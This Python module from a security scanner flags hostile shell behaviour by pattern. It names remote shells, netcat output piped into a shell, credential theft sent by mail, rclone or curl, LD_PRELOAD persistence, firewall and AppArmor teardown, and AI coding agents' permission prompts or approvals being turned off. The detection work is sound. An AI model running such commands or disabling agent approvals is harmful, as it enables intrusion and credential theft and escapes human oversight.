"""Behaviour classes the shell reader judges by what a tool does (issue 49, red-team misses).

Called from :class:`ledger.scanner.meaning.shell._Reader` for every command (``judge``) and every
write to a persistence place (``preload``).  Each check names a behaviour, never a sample:

* remote shells (LS312): a terminal handed to the network by the tool built for it: ``telnetd``,
  ``ttyd``/``gotty`` serving a shell, ``websocat --exec``, ``xterm -display`` to another host,
  ``ssh -R`` publishing a remote-access port, ``ngrok``/``bore``… exposing one, ``tmate``/``upterm``
  sessions, zsh's ``ztcp`` descriptor given to a shell, a network stage feeding a loop that runs lines;
* credentials printed by their own CLIs (``git credential fill``, ``secret-tool lookup`` …) and sent,
  secrets carried by ``mail``, ``ssh`` stdin, ``rclone``, ``git push``; vendor API keys put in a URL
  or header of a host that is not their vendor's (LS412);
* persistence (LS911): preloaded libraries, macOS login items, a user-scope MCP server fetched from a
  repository, a package index or registry moved off the public one, a skill copying itself into the
  agent's global skills;
* safety off (LS912): host protection (AppArmor, firewall, ptrace scope, passwordless sudo) and an
  agent's permission prompts turned off by its config or its approval mode.
"""

from __future__ import annotations

import re
from typing import Any

from ledger.scanner.meaning import places
from ledger.scanner.meaning.flow import Flow

__all__ = ["GATE", "judge", "preload"]

GATE = re.compile(
    r"\bztcp\b|telnetd|\bttyd\b|\bgotty\b|websocat|\b(?:xterm|u?rxvt)\b|ssh\b[^\n]*\s-\w*R|\bngrok\b|\bbore\b|\btmate\b|\bupterm\b"
    r"|\btelnet\b|credential\s+fill|secret-tool|\bmail\b|\bmailx\b|sendmail|\bmutt\b|\brclone\b|git\s+push"
    r"|_(?:KEY|TOKEN|SECRET)\b|environ\b|ld\.so\.preload|LD_PRELOAD|pam_environment|login\s+item|mcp\s+add"
    r"|config\s+set|\.(?:claude|codex|hermes|agents|cursor|gemini)/skills|aa-teardown|apparmor|iptables|\bnft\b|netsh|advfirewall|ptrace_scope|NOPASSWD"
    r"|\bsshx\b|\bpass\s+show|gopass|\bbw\s+get|cloudflared|localtunnel|pinggy|msmtp|swaks|ip6tables"
    r"|approval-mode|ask-for-approval|defaultMode|CA_BUNDLE|SSL_CERT_FILE|trusted-host|\bln\s+-\w*s",
    re.I,
)

_SH = {"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "login", "pwsh", "powershell", "cmd"}
_REMOTE_PORTS = {"22", "23", "2222", "3389", "5900", "5901", "5985", "5986"}
_LOCAL = re.compile(r"^(?:localhost|127\.[\d.]+|::1|unix|)$", re.I)
_SECRET_VAR = re.compile(r"\$\{?([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)*_(?:API_?KEY|KEY|TOKEN|SECRET|PAT|PASSWORD))\b")
_VENDOR_ALIAS = {"gh": "github", "hf": "huggingface", "aws": "amazonaws", "gcp": "google", "gemini": "google"}
_GENERIC = {"api", "access", "auth", "secret", "my", "app", "client", "bearer", "service", "private", "user"}
_PUBLIC_INDEXES = re.compile(
    r"^https://(?:registry\.npmjs\.org|registry\.yarnpkg\.com|registry\.npmmirror\.com|pypi\.org|files\.pythonhosted\.org"
    r"|download\.pytorch\.org|pypi\.tuna\.tsinghua\.edu\.cn|mirrors\.aliyun\.com|npm\.pkg\.github\.com)(?:/|$)",
    re.I,
)
_FETCHED_SOURCE = re.compile(r"^(?:github:|gitlab:|git\+|https?://|git@)|\.(?:tgz|tar\.gz)$", re.I)


def _flow(tin: Any, taint: dict[str, object]) -> Any:
    return type(tin)(dict(taint))


def judge(r: Any, name: str, args: list[str], tin: Any, taint: dict[str, object], stages: list[str]) -> Any:
    """Judge one command; returns its output flow when decided here, else None (the reader goes on)."""
    low = [a.lower() for a in args]
    joined = " ".join(args)
    _remote_shell(r, name, args, low, joined, stages)
    _line_loop(r, name, args, tin, taint)
    if (
        name == "tee"
        and tin.text.strip() == "0"
        and any(re.search(r"/proc/sys/kernel/yama/ptrace_scope$", a) for a in args)
    ):
        r.add("LS912", r.sev(), f"tee {joined}: ptrace protection off"[:160])
    _safety(r, name, args, low, joined)
    _persistence(r, name, args, low, joined)
    sent = _secret_vars(r, name, args, joined)
    if sent is not None:
        return None
    words = [a for a in args if not a.startswith("-")]
    if (
        (name == "git" and words[:2] == ["credential", "fill"])
        or (name == "secret-tool" and words[:1] == ["lookup"])
        or (name in ("pass", "gopass") and words[:1] == ["show"])
        or (name == "bw" and words[:1] == ["get"])
    ):
        return _flow(tin, {"cred": f"{name} {' '.join(words[:2])}"})
    if name in ("mail", "mailx", "sendmail", "mutt", "msmtp", "swaks", "neomutt"):
        attached = [a for a in args if _credential(r, a)]
        flow = _flow(tin, {**tin.taint, **taint, **({"cred": attached[0]} if attached else {})})
        r.send(f"{name} {joined}", flow)
        return type(tin)()
    if name == "ssh" and ("cred" in tin.taint or "env" in tin.taint):
        r.send(f"ssh {joined} (stdin)", tin)
    if name == "rclone" and words[:1] and words[0] in ("copy", "sync", "move", "copyto", "rcat"):
        src = [a for a in words[1:] if _credential(r, a)]
        if src:
            r.creds.append((r.line, f"rclone {src[0]}"))
        r.send(f"rclone {joined}", _flow(tin, {**tin.taint, **({"cred": src[0]} if src else {})}))
        return type(tin)()
    if name == "git" and words[:1] == ["push"]:
        r.sends.append((r.line, f"git {joined}"))
    if name == "ln" and any(a.startswith("-") and "s" in a for a in args):
        files = [a for a in args if not a.startswith("-")]
        if len(files) >= 2 and (_credential(r, files[0]) or _system(files[0])):
            r.creds.append((r.line, f"ln -s {files[0]}"))
            r.add("LS705", r.sev(always=True), f"ln -s {files[0]} {files[-1]}: a link to a secret")
    return None


def _credential(r: Any, path: str) -> bool:
    return places.credential(path) is not None or bool(re.match(r"^/proc/(?:\d+|self|\$\w+|\*)/environ$", path))


def _system(path: str) -> bool:
    return places.system_file(path)


def _remote_shell(r: Any, name: str, args: list[str], low: list[str], joined: str, stages: list[str]) -> None:
    shells = [a for a in args if a.rsplit("/", 1)[-1] in _SH]
    hit = ""
    if name == "ztcp" and args:
        r.vars["REPLY"] = ("ztcp-fd", {})
        r.netfds.add("ztcp-fd")
    elif name in ("telnetd", "utelnetd") or (name == "busybox" and low[:1] == ["telnetd"]):
        hit = f"{name} {joined}: a telnet login served to the network"
    elif name in ("ttyd", "gotty") and shells:
        hit = f"{name} {joined}: a shell served as a web page"
    elif name == "websocat" and any(a in ("--exec", "-e", "--sh-c") or a.startswith(("exec:", "sh-c:")) for a in low):
        hit = f"websocat {joined}: a process bound to a websocket"
    elif name in ("xterm", "urxvt", "rxvt") and "-display" in low:
        disp = args[low.index("-display") + 1] if low.index("-display") + 1 < len(args) else ""
        if not _LOCAL.match(disp.split(":")[0]):
            hit = f"{name} -display {disp}: a terminal on another host's screen"
    elif name in ("ssh", "autossh") and any(a.startswith("-") and not a.startswith("--") and "R" in a for a in args):
        specs = [
            args[i + 1] if a.endswith("R") and i + 1 < len(args) else a[2:]
            for i, a in enumerate(args)
            if a.startswith("-R")
        ]
        specs += [
            args[i + 1]
            for i, a in enumerate(args)
            if re.match(r"^-[a-zA-Z]*R$", a) and not a.startswith("-R") and i + 1 < len(args)
        ]
        if any(s.rsplit(":", 1)[-1] in _REMOTE_PORTS for s in specs if ":" in s):
            hit = f"{name} {joined}: a remote-access port published on another host"
    elif name in ("ngrok", "bore", "cloudflared", "lt", "localtunnel", "pinggy") and any(
        a.rsplit(":", 1)[-1] in _REMOTE_PORTS for a in args if not a.startswith("-")
    ):
        hit = f"{name} {joined}: a remote-access port exposed to the internet"
    elif name in ("tmate", "upterm", "sshx") and (
        any(a in ("new-session", "-f", "-F", "host", "display") for a in args) or not args
    ):
        hit = f"{name} {joined}: a terminal shared with a remote host"
    if (
        not hit
        and name in _SH
        and stages
        and any(s in ("telnet", "nc", "ncat", "netcat", "socat", "websocat") for s in stages)
        and ("-c" in args or not args)
    ):
        hit = f"{' | '.join(stages)} | {name} {joined}: lines from the network run"
    if hit:
        r.add("LS312", r.sev(always=True), hit[:160])


def _line_loop(r: Any, name: str, args: list[str], tin: Any, taint: dict[str, object]) -> None:
    """``nc host p | while read l; do sh -c "$l"; done``: each line read from a socket run by a shell."""
    fetched = tin.taint.get("fetch")
    if name == "read" and fetched is not None and str(getattr(fetched, "ev", "")).split(" ")[0] in _NET:
        for a in args:
            if not a.startswith("-") and re.fullmatch(r"\w+", a):
                r.vars[a] = ("", {"netline": fetched.ev})
    if (name in _SH or name == "eval") and "netline" in taint:
        r.add("LS312", r.sev(always=True), f"{name} {' '.join(args)}: runs lines read from {taint['netline']}"[:160])


_NET = {"telnet", "nc", "ncat", "netcat", "socat", "websocat", "openssl", "cryptcat", "pwncat"}


def _safety(r: Any, name: str, args: list[str], low: list[str], joined: str) -> None:
    text = joined.lower()
    hit = ""
    if name in ("aa-teardown", "aa-disable") or (
        name in ("systemctl", "service") and "apparmor" in low and {"stop", "disable", "mask"} & set(low)
    ):
        hit = "AppArmor torn down"
    elif name in ("iptables", "ip6tables") and {"-P", "--policy"} & set(args) and args[-1:] == ["ACCEPT"]:
        hit = "firewall policy set to accept"
    elif name == "nft" and (("flush" in low and "ruleset" in low) or low[:2] == ["delete", "table"]):
        hit = "firewall rules flushed"
    elif name == "netsh" and {"advfirewall", "firewall"} & set(low) and {"off", "disable"} & set(low):
        hit = "Windows firewall off"
    elif name == "sysctl" and re.search(r"kernel\.yama\.ptrace_scope\s*=\s*0|kernel\.randomize_va_space\s*=\s*0", text):
        hit = "kernel protection off"
    elif re.search(r"defaultmode\W+bypasspermissions|permissions\.allow\W+\[?\W*bash\(\*\)", text) or (
        name in ("claude",) and "config" in low and "bypasspermissions" in low
    ):
        hit = "the agent's permission prompts off"
    elif "--approval-mode" in low and low[low.index("--approval-mode") + 1 : low.index("--approval-mode") + 2] == [
        "yolo"
    ]:
        if r.unit.documented & {"--yolo"} and r.unit.where != "script" and r.unit.context != "file":
            r.add("LS912", "high", f"{name} {joined}"[:160])
            return
        hit = "the agent's approvals off"
    elif any(a.startswith("--approval-mode=yolo") for a in low):
        hit = "the agent's approvals off"
    if hit:
        r.add("LS912", r.sev(), f"{name} {joined}: {hit}"[:160])
    if name in ("pip", "pip3", "uv") and "trusted-host" in text:
        r.add("LS912", "high", f"{name} {joined}: TLS verification off"[:160])


def _persistence(r: Any, name: str, args: list[str], low: list[str], joined: str) -> None:
    words = [a for a in args if not a.startswith("-")]
    if name == "osascript" and re.search(r"login\s+item", joined, re.I) and re.search(r"\bmake\b", joined, re.I):
        r.add("LS911", r.sev(), f"osascript: a login item: {joined}"[:160])
    if (name in _AGENT_CLIS and words[:2] == ["mcp", "add"]) or words[:2] == ["mcp", "add-json"]:
        scope = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-s", "--scope")), "")
        scope = scope or next((a.split("=", 1)[1] for a in args if a.startswith("--scope=")), "")
        fetched = any(_FETCHED_SOURCE.search(a) for a in _mcp_sources(args))
        if fetched:
            sev = r.sev() if scope in ("user", "global") else "high"
            r.add("LS911", sev, f"{name} {joined}: an MCP server fetched at every session"[:160])
    if (
        name in ("npm", "yarn", "pnpm", "pip", "pip3", "uv", "bun")
        and words[:2] == ["config", "set"]
        and len(words) >= 4
    ):
        key, value = words[2].lower(), words[3]
        if re.search(r"registry|index-url|extra-index", key) and not _PUBLIC_INDEXES.match(value):
            r.add("LS911", r.sev(), f"{name} {joined}: every later install from this index"[:160])
    if name in ("cp", "rsync", "install", "ln") and len(words) >= 2:
        dest = words[-1]
        if re.search(r"(?:^|/)\.(?:claude|codex|hermes|agents|cursor|gemini)/skills(?:/|$)", dest) and r.unit.where in (
            "instructions",
            "script",
        ):
            r.add("LS911", r.sev(), f"{name} {' '.join(words)}: copied into the agent's global skills"[:160])


def _mcp_sources(args: list[str]) -> list[str]:
    """What an MCP server's runner fetches: the package after ``npx``/``uvx``/``bunx``/``pipx run``
    (and a ``--from``/``--package`` value), not the arguments given to that package."""
    out: list[str] = []
    for i, a in enumerate(args):
        if a.rsplit("/", 1)[-1] in ("npx", "uvx", "bunx", "pnpx", "pipx", "uv", "deno", "bun"):
            rest = args[i + 1 :]
            j = 0
            while j < len(rest):
                if rest[j] in ("--from", "--package", "-p", "--spec") and j + 1 < len(rest):
                    out.append(rest[j + 1])
                    j += 2
                elif rest[j].startswith("-") or rest[j] in ("run", "x", "tool", "dlx"):
                    j += 1
                else:
                    out.append(rest[j])
                    break
            break
    return out


_AGENT_CLIS = {"claude", "codex", "gemini", "cursor-agent", "amp", "goose", "qwen", "opencode"}


def preload(r: Any, ev: str, content: Any, place: str) -> None:
    """A library preloaded into every process (``/etc/ld.so.preload``, ``LD_PRELOAD`` in the login
    environment): code that runs in every later program."""
    text = content.text
    if re.search(r"ld\.so\.preload$", place) or (
        re.search(r"pam_environment$|/etc/environment$", place) and "LD_PRELOAD" in text
    ):
        r.add("LS911", r.sev(), f"{ev}: a library preloaded into every process"[:160])
    if re.search(r"^/etc/sudoers", place) and re.search(r"NOPASSWD\s*:\s*ALL", text, re.I):
        r.add("LS912", r.sev(), f"{ev}: passwordless sudo for every command"[:160])


def _secret_vars(r: Any, name: str, args: list[str], joined: str) -> bool | None:
    """A vendor's API key (``$ANTHROPIC_API_KEY``) put in a URL or header of a host that is not that
    vendor's: sent out.  Generic names (``$API_KEY``) say nothing about where they belong."""
    if name not in ("curl", "wget", "http", "https", "aria2c"):
        return None
    urls = [a for a in args if re.match(r"^https?://", a)]
    if not urls:
        return None
    m = re.match(r"^https?://(?:[^@/]*@)?([^/:?#]+)", urls[0])
    if m is None:
        return None
    host = m.group(1).lower()
    flat = re.sub(r"[.\-]", "", host)
    foreign = []
    for var in _SECRET_VAR.findall(joined):
        vendor = var.split("_")[0].lower()
        if vendor in _GENERIC or len(vendor) < 2:
            continue
        vendor = _VENDOR_ALIAS.get(vendor, vendor)
        if vendor not in flat:
            foreign.append(var)
    if not foreign:
        return None
    r.send(f"{name} {urls[0]}", _flow_env(r, foreign))
    return True


def _flow_env(r: Any, names: list[str]) -> Any:
    return Flow({"env": "$" + ", $".join(names)})
